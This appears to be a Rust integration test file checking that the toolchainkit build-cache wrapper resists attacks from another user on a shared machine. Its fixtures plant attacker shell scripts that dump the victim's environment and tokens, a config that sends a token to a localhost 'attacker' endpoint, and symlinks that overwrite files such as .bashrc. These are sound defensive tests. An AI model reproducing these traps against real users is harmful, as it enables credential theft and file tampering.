//! Trust boundaries on a machine shared with another user: each attack found by hand is
//! replayed here with real users (created with `useradd`, removed afterwards) against the
//! real binary, gcc, ccache and sccache. The victim's build must still succeed, nothing of
//! the victim's may be run, sent or overwritten, and `doctor` must say why.
//!
//! These tests need root (to create users); outside `scripts/test.sh` they skip without it.

use crate::common;

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::users::{User, install_copy, shared_root};
use common::*;

const TOKEN: &str = "ghp_victimsecret0123456789abcdefABCDEF";

/// Programs every user can run, wherever the checkout lives.
struct Box {
    root: tempfile::TempDir,
    shims: PathBuf,
    tools: PathBuf,
    bin: PathBuf,
}

impl Box {
    fn new() -> Box {
        let root = shared_root();
        let bin = install_copy(&bin(), &root.path().join("bin"));
        let shims = root.path().join("shims");
        fs::create_dir_all(&shims).expect("mkdir");
        for n in ["cc", "gcc", "c++"] {
            symlink(&bin, shims.join(n)).expect("shim");
        }
        let tools = root.path().join("tools");
        install_copy(&ccache(), &tools);
        install_copy(&sccache(), &tools);
        Box {
            root,
            shims,
            tools,
            bin,
        }
    }

    fn path(&self) -> &Path {
        self.root.path()
    }

    /// A directory owned by `u` (mode 0755) at `rel`.
    fn dir_of(&self, u: &User, rel: &str) -> PathBuf {
        let d = self.path().join(rel);
        fs::create_dir_all(&d).expect("mkdir");
        fs::set_permissions(&d, fs::Permissions::from_mode(0o755)).expect("chmod");
        u.own(&d);
        d
    }

    /// A world-writable sticky directory, as `/tmp` is.
    fn sticky(&self, rel: &str) -> PathBuf {
        let d = self.path().join(rel);
        fs::create_dir_all(&d).expect("mkdir");
        fs::set_permissions(&d, fs::Permissions::from_mode(0o1777)).expect("chmod");
        d
    }
}

fn write_as(u: &User, path: &Path, text: &str, mode: u32) {
    if let Some(d) = path.parent() {
        fs::create_dir_all(d).expect("mkdir");
    }
    fs::write(path, text).expect("write");
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("chmod");
    u.own(path);
}

fn bare_object(dir: &Path, src: &str) -> Vec<u8> {
    let out = dir.join("reference.o");
    let st = std::process::Command::new("gcc")
        .args(["-c", src, "-o"])
        .arg(&out)
        .current_dir(dir)
        .status()
        .expect("gcc");
    assert!(st.success());
    let bytes = read(&out);
    let _ = fs::remove_file(&out);
    bytes
}

/// A TCP listener on 127.0.0.1 that records every byte any connection sends it.
struct Catcher {
    port: u16,
    got: Arc<Mutex<Vec<u8>>>,
    connections: Arc<Mutex<u32>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Catcher {
    fn start() -> Catcher {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = l.local_addr().expect("addr").port();
        l.set_nonblocking(true).expect("nonblocking");
        let got = Arc::new(Mutex::new(Vec::new()));
        let connections = Arc::new(Mutex::new(0));
        let stop = Arc::new(AtomicBool::new(false));
        let (g, c, s) = (got.clone(), connections.clone(), stop.clone());
        let thread = std::thread::spawn(move || {
            while !s.load(Ordering::SeqCst) {
                match l.accept() {
                    Ok((mut conn, _)) => {
                        *c.lock().expect("lock") += 1;
                        let _ = conn.set_read_timeout(Some(Duration::from_millis(300)));
                        let mut buf = [0u8; 4096];
                        while let Ok(n) = conn.read(&mut buf) {
                            if n == 0 {
                                break;
                            }
                            g.lock().expect("lock").extend_from_slice(&buf[..n]);
                        }
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Catcher {
            port,
            got,
            connections,
            stop,
            thread: Some(thread),
        }
    }

    fn finish(mut self) -> (u32, Vec<u8>) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
        let n = *self.connections.lock().expect("lock");
        let got = self.got.lock().expect("lock").clone();
        (n, got)
    }
}

impl Drop for Catcher {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

fn lines_with<'a>(text: &'a str, level: &str, needle: &str) -> Vec<&'a str> {
    text.lines()
        .filter(|l| l.starts_with(level) && l.contains(needle))
        .collect()
}

/// Issue: with `HOME` unset, everything fell back to `/tmp/toolchainkit-UID`, and another
/// user who created it first had their `tools/bin/ccache` run as the victim (with the
/// victim's tokens) and their planted stats symlinks overwrite the victim's files.
#[test]
fn home_unset_and_a_planted_fallback_directory_is_refused() {
    if skip_unless(&[Need::root(), Need::tools(), Need::compilers()]) {
        return;
    }
    let b = Box::new();
    let tmp = b.sticky("tmp");
    let victim = User::create('v', Path::new("/nonexistent"));
    let attacker = User::create('a', Path::new("/nonexistent"));
    let proj = b.dir_of(&victim, "proj");
    write_as(&victim, &proj.join("f.c"), LIB_C, 0o644);
    write_as(&victim, &proj.join("precious.txt"), "keep me\n", 0o644);
    let want = bare_object(&proj, "f.c");

    // The attacker's trap, at the name the victim's fallback uses.
    let base = tmp.join(format!("toolchainkit-{}", victim.uid));
    let captured = tmp.join("captured-env");
    let evil = format!("#!/bin/sh\nenv > {}\nexec \"$@\"\n", captured.display());
    let tk = base.join("toolchainkit");
    for t in ["ccache", "sccache"] {
        write_as(&attacker, &tk.join("tools/bin").join(t), &evil, 0o777);
    }
    write_as(
        &attacker,
        &tk.join("config.toml"),
        "[cache]\ntool = \"ccache\"\n",
        0o666,
    );
    fs::create_dir_all(tk.join("stats")).expect("mkdir");
    for name in [
        "default.stats",
        "default.stats.lock",
        "default.stats.pending",
    ] {
        symlink(proj.join("precious.txt"), tk.join("stats").join(name)).expect("plant");
    }
    attacker.own(&base);
    fs::set_permissions(&base, fs::Permissions::from_mode(0o777)).expect("chmod");

    let env = [
        ("PATH", format!("{}:/usr/bin:/bin", b.shims.display())),
        ("TMPDIR", tmp.display().to_string()),
        ("GITHUB_TOKEN", TOKEN.to_string()),
    ];
    let out = victim
        .cmd(b.shims.join("cc"), &env)
        .args(["-c", "f.c", "-o", "f.o"])
        .current_dir(&proj)
        .output()
        .expect("compile");
    silent(out);
    assert_eq!(
        read(&proj.join("f.o")),
        want,
        "the compile itself is unchanged"
    );
    assert!(!captured.exists(), "the planted tool ran as the victim");
    assert_eq!(
        fs::read_to_string(proj.join("precious.txt")).expect("precious"),
        "keep me\n"
    );

    let doc = victim
        .cmd(&b.bin, &env)
        .arg("doctor")
        .current_dir(&proj)
        .output()
        .expect("doctor");
    let text = String::from_utf8_lossy(&doc.stdout);
    assert_eq!(doc.status.code(), Some(1), "{}", describe(&doc));
    let refused = lines_with(&text, "problem", &format!("owned by uid {}", attacker.uid));
    assert!(
        refused.iter().any(|l| l.contains("dirs.fallback")),
        "doctor names the planted directory\n{text}"
    );
    assert!(!captured.exists(), "doctor ran the planted tool");
}

/// Issue: a `.toolchainkit.toml` that another user put in a shared parent directory was
/// obeyed: its cache directory's `ccache.conf` ran a program as the victim, its remote sent
/// the victim's token to the attacker, its stats file replaced the victim's `.bashrc`.
#[test]
fn another_users_project_file_in_a_shared_parent_is_ignored() {
    if skip_unless(&[Need::root(), Need::tools(), Need::compilers()]) {
        return;
    }
    let b = Box::new();
    let shared = b.sticky("shared");
    let vhome_rel = "vhome";
    let victim = User::create('v', &b.path().join(vhome_rel));
    let attacker = User::create('a', Path::new("/nonexistent"));
    let vhome = b.dir_of(&victim, vhome_rel);
    write_as(&victim, &vhome.join(".bashrc"), "# mine\n", 0o644);
    let proj = shared.join("checkout");
    fs::create_dir_all(&proj).expect("mkdir");
    write_as(&victim, &proj.join("f.c"), LIB_C, 0o644);
    victim.own(&proj);
    let want = bare_object(&proj, "f.c");

    let catcher = Catcher::start();
    let ran = shared.join("prefix-ran");
    let evil_cache = shared.join("evilcache");
    write_as(
        &attacker,
        &shared.join("evil.sh"),
        &format!("#!/bin/sh\nenv > {}\nexec \"$@\"\n", ran.display()),
        0o755,
    );
    write_as(
        &attacker,
        &evil_cache.join("ccache/ccache.conf"),
        &format!("prefix_command = {}\n", shared.join("evil.sh").display()),
        0o666,
    );
    fs::set_permissions(evil_cache.join("ccache"), fs::Permissions::from_mode(0o777))
        .expect("chmod");
    let planted = format!(
        "[cache]\ntool = \"ccache\"\ndir = \"{}\"\n\n[cache.remote]\ntype = \"redis\"\nendpoint = \"redis://127.0.0.1:{}\"\npassword_env = \"GITHUB_TOKEN\"\n\n[stats]\nfile = \"{}\"\n",
        evil_cache.display(),
        catcher.port,
        vhome.join(".bashrc").display()
    );
    write_as(
        &attacker,
        &shared.join(".toolchainkit.toml"),
        &planted,
        0o644,
    );

    let env = [
        (
            "PATH",
            format!("{}:{}:/usr/bin:/bin", b.shims.display(), b.tools.display()),
        ),
        ("HOME", vhome.display().to_string()),
        ("GITHUB_TOKEN", TOKEN.to_string()),
    ];
    let out = victim
        .cmd(b.shims.join("cc"), &env)
        .args(["-c", "f.c", "-o", "f.o"])
        .current_dir(&proj)
        .output()
        .expect("compile");
    silent(out);
    assert_eq!(read(&proj.join("f.o")), want);
    assert!(
        !ran.exists(),
        "the planted prefix_command ran as the victim"
    );
    assert_eq!(
        fs::read_to_string(vhome.join(".bashrc")).expect("bashrc"),
        "# mine\n"
    );
    let (connections, got) = catcher.finish();
    assert_eq!(
        connections, 0,
        "something connected to the attacker's endpoint"
    );
    assert!(!String::from_utf8_lossy(&got).contains(TOKEN));

    let doc = victim
        .cmd(&b.bin, &env)
        .arg("doctor")
        .current_dir(&proj)
        .output()
        .expect("doctor");
    let text = String::from_utf8_lossy(&doc.stdout);
    let ignored = lines_with(&text, "problem", "config.ignored");
    assert!(
        ignored.len() == 1
            && ignored[0].contains(&format!("owned by uid {}", attacker.uid))
            && ignored[0].contains("TOOLCHAINKIT_TRUSTED_DIRS"),
        "{text}"
    );
    let cfg = victim
        .cmd(&b.bin, &env)
        .arg("config")
        .current_dir(&proj)
        .output()
        .expect("config");
    assert!(
        String::from_utf8_lossy(&cfg.stdout).contains("ignored:"),
        "{}",
        describe(&cfg)
    );

    // The control: trusting the directory on purpose obeys the file, so the trap above
    // is real (its prefix command runs).
    let mut trusted = env.to_vec();
    trusted.push(("TOOLCHAINKIT_TRUSTED_DIRS", shared.display().to_string()));
    let _ = victim
        .cmd(b.shims.join("cc"), &trusted)
        .args(["-c", "f.c", "-o", "g.o"])
        .current_dir(&proj)
        .output()
        .expect("compile");
    assert!(ran.exists(), "with the opt-in the file is obeyed");
}

/// The victim's own project file is used when only the victim's private group can write
/// it (`umask 002`), and ignored when a group shared with others can.
#[test]
fn group_writable_project_file_is_used_only_with_a_private_group() {
    if skip_unless(&[Need::root(), Need::tools(), Need::compilers()]) {
        return;
    }
    let b = Box::new();
    let victim = User::create('v', Path::new("/nonexistent"));
    let other = User::create('o', Path::new("/nonexistent"));
    let proj = b.dir_of(&victim, "proj");
    write_as(&victim, &proj.join("f.c"), LIB_C, 0o644);
    let cfg = proj.join(".toolchainkit.toml");
    write_as(&victim, &cfg, "[cache]\ntool = \"none\"\n", 0o664);
    let env = [
        ("PATH", format!("{}:/usr/bin:/bin", b.shims.display())),
        ("HOME", proj.join("home").display().to_string()),
    ];
    let show = |u: &User| {
        let out = u
            .cmd(&b.bin, &env)
            .arg("config")
            .current_dir(&proj)
            .output()
            .expect("config");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let text = show(&victim);
    assert!(
        text.contains("cache.tool = \"none\"") && !text.contains("ignored:"),
        "{text}"
    );
    // A group with another member: the file is ignored.
    let group = format!("{}g", victim.name);
    assert!(
        std::process::Command::new("groupadd")
            .arg(&group)
            .status()
            .expect("groupadd")
            .success()
    );
    let _cleanup = GroupGuard(group.clone());
    assert!(
        std::process::Command::new("gpasswd")
            .args(["-M", &format!("{},{}", victim.name, other.name), &group])
            .status()
            .expect("gpasswd")
            .success()
    );
    assert!(
        std::process::Command::new("chgrp")
            .arg(&group)
            .arg(&cfg)
            .status()
            .expect("chgrp")
            .success()
    );
    let text = show(&victim);
    assert!(
        text.contains("ignored:") && text.contains("writable by group"),
        "{text}"
    );
}

struct GroupGuard(String);

impl Drop for GroupGuard {
    fn drop(&mut self) {
        let _ = std::process::Command::new("groupdel").arg(&self.0).status();
    }
}

/// Issue: without `XDG_RUNTIME_DIR`, the sccache runtime directory of another user was
/// accepted: the attacker's symlink at the server log's name overwrote the victim's file
/// and a listener at the victim's (predictable) socket path received the victim's compile
/// request with its environment.
#[test]
fn another_users_runtime_directory_is_refused() {
    if skip_unless(&[Need::root(), Need::tools(), Need::compilers()]) {
        return;
    }
    let b = Box::new();
    let tmp = b.sticky("tmp");
    let victim = User::create('v', &b.path().join("vhome"));
    let attacker = User::create('a', Path::new("/nonexistent"));
    let vhome = b.dir_of(&victim, "vhome");
    write_as(&victim, &vhome.join("precious.txt"), "keep me\n", 0o644);
    let proj = b.dir_of(&victim, "proj");
    write_as(&victim, &proj.join("f.c"), LIB_C, 0o644);
    write_as(
        &victim,
        &proj.join(".toolchainkit.toml"),
        "[cache]\ntool = \"sccache\"\n",
        0o644,
    );
    let want = bare_object(&proj, "f.c");
    let env = [
        (
            "PATH",
            format!("{}:{}:/usr/bin:/bin", b.shims.display(), b.tools.display()),
        ),
        ("HOME", vhome.display().to_string()),
        ("TMPDIR", tmp.display().to_string()),
        ("GITHUB_TOKEN", TOKEN.to_string()),
    ];
    // The socket name the victim would use (`server status` prints it).
    let status = victim
        .cmd(&b.bin, &env)
        .args(["server", "status"])
        .current_dir(&proj)
        .output()
        .expect("server status");
    let text = String::from_utf8_lossy(&status.stdout);
    let sock = PathBuf::from(
        text.split("would use ")
            .nth(1)
            .and_then(|s| s.split(')').next())
            .unwrap_or_else(|| panic!("no socket in {}", describe(&status))),
    );
    let dir = sock.parent().expect("runtime dir").to_path_buf();
    assert!(dir.starts_with(&tmp), "{}", dir.display());
    fs::create_dir_all(&dir).expect("mkdir");
    symlink(vhome.join("precious.txt"), sock.with_extension("log")).expect("plant log");
    let listener = UnixListener::bind(&sock).expect("bind the victim's socket");
    listener.set_nonblocking(true).expect("nonblocking");
    attacker.own(&dir);
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o777)).expect("chmod");

    let out = victim
        .cmd(b.shims.join("cc"), &env)
        .args(["-c", "f.c", "-o", "f.o"])
        .current_dir(&proj)
        .output()
        .expect("compile");
    silent(out);
    assert_eq!(read(&proj.join("f.o")), want);
    assert!(
        listener.accept().is_err(),
        "a request reached the planted socket"
    );
    assert_eq!(
        fs::read_to_string(vhome.join("precious.txt")).expect("precious"),
        "keep me\n"
    );
    let stats = victim
        .cmd(&b.bin, &env)
        .args(["stats", "--json"])
        .current_dir(&proj)
        .output()
        .expect("stats");
    let s: serde_json::Value = serde_json::from_slice(&stats.stdout).expect("stats json");
    assert_eq!(
        s["fallback_reasons"]["sccache_server_unavailable"].as_u64(),
        Some(1),
        "{s}"
    );
    let doc = victim
        .cmd(&b.bin, &env)
        .arg("doctor")
        .current_dir(&proj)
        .output()
        .expect("doctor");
    let text = String::from_utf8_lossy(&doc.stdout);
    assert!(
        !lines_with(&text, "problem", "dirs.runtime").is_empty(),
        "{text}"
    );
}

/// The sccache server a build starts never holds the build's tokens, and every file
/// toolchainkit creates (stats, lock, trace, log, server log, socket directory) is private
/// to the user.
#[test]
fn server_environment_has_no_tokens_and_every_file_is_private() {
    if skip_unless(&[Need::root(), Need::tools(), Need::compilers()]) {
        return;
    }
    let b = Box::new();
    let victim = User::create('v', &b.path().join("vhome"));
    let vhome = b.dir_of(&victim, "vhome");
    let run = b.dir_of(&victim, "run");
    fs::set_permissions(&run, fs::Permissions::from_mode(0o700)).expect("chmod");
    let proj = b.dir_of(&victim, "proj");
    write_as(&victim, &proj.join("f.c"), LIB_C, 0o644);
    write_as(
        &victim,
        &proj.join(".toolchainkit.toml"),
        "[cache]\ntool = \"sccache\"\ndir = \"cache\"\n\n[stats]\ntrace = true\n",
        0o644,
    );
    let env = [
        (
            "PATH",
            format!("{}:{}:/usr/bin:/bin", b.shims.display(), b.tools.display()),
        ),
        ("HOME", vhome.display().to_string()),
        ("XDG_RUNTIME_DIR", run.display().to_string()),
        ("GITHUB_TOKEN", TOKEN.to_string()),
        ("TOOLCHAINKIT_LOG", "debug".to_string()),
    ];
    silent(
        victim
            .cmd(b.shims.join("cc"), &env)
            .args(["-c", "f.c", "-o", "f.o"])
            .current_dir(&proj)
            .output()
            .expect("compile"),
    );
    // Find the server by its socket variable and read its environment.
    let mut found = 0;
    for entry in fs::read_dir("/proc").expect("proc").filter_map(Result::ok) {
        let Ok(environ) = fs::read(entry.path().join("environ")) else {
            continue;
        };
        let text = String::from_utf8_lossy(&environ);
        if text.contains(&format!("SCCACHE_SERVER_UDS={}", run.display())) {
            found += 1;
            assert!(!text.contains(TOKEN), "the sccache server holds the token");
        }
    }
    assert_eq!(found, 1, "sccache servers for {}", run.display());
    let stop = victim
        .cmd(&b.bin, &env)
        .args(["server", "stop"])
        .current_dir(&proj)
        .output()
        .expect("stop");
    ok(stop);
    for top in [
        vhome.join(".local/state/toolchainkit"),
        run.join("toolchainkit"),
    ] {
        let mut stack = vec![top.clone()];
        let mut files = 0;
        while let Some(p) = stack.pop() {
            let m = fs::symlink_metadata(&p).expect("stat");
            let mode = m.mode() & 0o777;
            assert_eq!(m.uid(), victim.uid, "{}", p.display());
            if m.is_dir() {
                assert_eq!(mode, 0o700, "{} is {mode:o}", p.display());
                stack.extend(
                    fs::read_dir(&p)
                        .expect("list")
                        .filter_map(|e| Some(e.ok()?.path())),
                );
            } else if m.is_file() {
                files += 1;
                assert_eq!(mode, 0o600, "{} is {mode:o}", p.display());
            }
        }
        assert!(files > 0, "nothing checked under {}", top.display());
    }
}
